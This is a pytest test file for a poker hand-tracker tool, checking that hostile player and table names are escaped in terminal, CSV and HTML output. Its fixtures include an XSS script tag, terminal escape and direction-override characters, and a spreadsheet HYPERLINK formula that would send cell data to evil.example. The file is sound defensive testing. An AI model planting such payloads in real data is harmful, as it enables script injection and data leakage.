"""Player and table names written to do harm: stored exactly, shown inert in the
terminal (no escape sequence, control character or direction mark reaches it as such,
no rich markup is read), neutralised in CSV (no cell a spreadsheet runs as a formula),
escaped in the HTML report."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from store_samples import pokerstars_text
from typer.testing import CliRunner

from tracker.cli import app
from tracker.safe_text import spreadsheet_cell, terminal_cell, terminal_text
from tracker.store import Store

runner = CliRunner()

HOSTILE = {
    "alice": '<script>alert("x")</script>' + "\u05d0" * 2_000,  # and 2,000 Hebrew letters
    "bruno": "\x1b[2J\x1b]0;pwned\x07\u202eevil\x08",
    "chen": '=HYPERLINK("http://evil.example/?"&A1;"click")',
}
TABLE = "[bold red]'Owned'[/] \x1b[31m" + "long" * 100
RAW = ("\x1b", "\x07", "\x08", "\u202e")


def _hostile_text() -> str:
    text = pokerstars_text(3)
    for plain, hostile in HOSTILE.items():
        text = text.replace(plain, hostile)
    return text.replace("Generated I", TABLE)


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "hands.txt").write_text(_hostile_text(), encoding="utf-8")
    result = runner.invoke(app, ["import", str(folder / "hands.txt"), "--data",
                                 str(folder / "data"), "--audit", "--format", "json"])  # fmt: skip
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["imported"] == 3
    return folder / "data"


def test_names_are_stored_exactly(data: Path) -> None:
    players = set(Store(data).read("seats", ["player"]).column("player").to_pylist())
    assert players == set(HOSTILE.values())
    tables = set(Store(data).read("hands", ["table_name"]).column("table_name").to_pylist())
    assert tables == {TABLE}


def _assert_inert(output: str) -> None:
    for character in RAW:
        assert character not in output, repr(character)


@pytest.mark.parametrize(
    "arguments",
    [
        ["sql", "SELECT player, table_name FROM seats JOIN hands USING (site, hand_id)"],
        ["stats"],
        ["show", "100000000001"],
        ["audit", "--all"],
    ],
)
def test_the_terminal_gets_no_escape_no_control_and_no_markup(
    data: Path, arguments: list[str]
) -> None:
    result = runner.invoke(app, [*arguments, "--data", str(data)], color=True)
    assert result.exit_code == 0, result.output
    _assert_inert(result.stdout)
    if arguments[0] in ("sql", "show"):
        assert "\\x1b[2J" in result.stdout  # shown, escaped
    if arguments[0] == "sql":
        assert "[bold red]" in result.stdout  # rich markup printed, not obeyed


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize(
    "arguments",
    [["sql", "SELECT player FROM seats", "--format", "csv"], ["stats", "--format", "csv"]],
)
def test_csv_cells_never_start_a_formula(data: Path, arguments: list[str]) -> None:
    result = runner.invoke(app, [*arguments, "--data", str(data)])
    assert result.exit_code == 0, result.output
    cells = _csv_cells(result.stdout)
    assert "'" + HOSTILE["chen"] in cells
    formulas = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@") and not _number(cell)]
    assert not formulas  # a negative amount is a number, which a spreadsheet reads as one


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_html_report_escapes_every_name(data: Path, tmp_path: Path) -> None:
    page = tmp_path / "report.html"
    result = runner.invoke(app, ["report", "--data", str(data), "--out", str(page),
                                 "--player", HOSTILE["alice"]])  # fmt: skip
    assert result.exit_code == 0, result.output
    html = page.read_text(encoding="utf-8")
    assert "<script>" not in html
    assert "&lt;script&gt;" in html


def test_the_functions_neutralise_each_kind() -> None:
    assert terminal_text("a\x1b[0mb\u202ec\nd") == "a\\x1b[0mb\\u202ec\nd"
    assert terminal_cell("a\nb\tc") == "a\\x0ab\\x09c"
    assert [spreadsheet_cell(text) for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "ok")] == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "ok"]  # fmt: skip
    assert spreadsheet_cell(-1) == -1
